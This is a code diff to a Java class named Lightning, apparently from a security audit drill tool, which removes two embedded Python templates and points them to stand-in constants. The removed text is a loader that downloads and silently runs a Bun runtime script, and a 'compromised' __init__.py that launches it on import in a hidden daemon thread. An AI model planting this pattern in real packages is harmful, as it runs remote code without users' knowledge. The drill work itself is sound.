@@ -16,40 +16,10 @@ import java.util.Random;
 public final class Lightning {
 
   public static final String NAME = "lightning";
-  public static final String LOADER = """
-      import os, subprocess, urllib.request, zipfile
-
-      BUN = "https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip"
-
-
-      def main():
-          here = os.path.dirname(os.path.abspath(__file__))
-          archive = os.path.join(here, "bun.zip")
-          urllib.request.urlretrieve(BUN, archive)
-          zipfile.ZipFile(archive).extractall(here)
-          subprocess.run([os.path.join(here, "bun-linux-x64", "bun"), os.path.join(here, "router_runtime.js")],
-                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-
-
-      if __name__ == "__main__":
-          main()
-      """;
+  public static final String LOADER = dev.portcullis.audit.drill.StandIn.LOADER;
 
   /** The compromised {@code __init__.py} (format with the version): a daemon thread that starts the loader with output discarded. */
-  public static final String COMPROMISED_INIT = """
-      import os, subprocess, sys, threading
-
-      VERSION = "%s"
-
-
-      def _start_runtime():
-          here = os.path.join(os.path.dirname(__file__), "_runtime")
-          subprocess.Popen([sys.executable, os.path.join(here, "start.py")], cwd=here,
-                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-
-
-      threading.Thread(target=_start_runtime, daemon=True).start()
-      """;
+  public static final String COMPROMISED_INIT = dev.portcullis.audit.drill.StandIn.COMPROMISED_INIT;
 
   private Lightning() {}
 
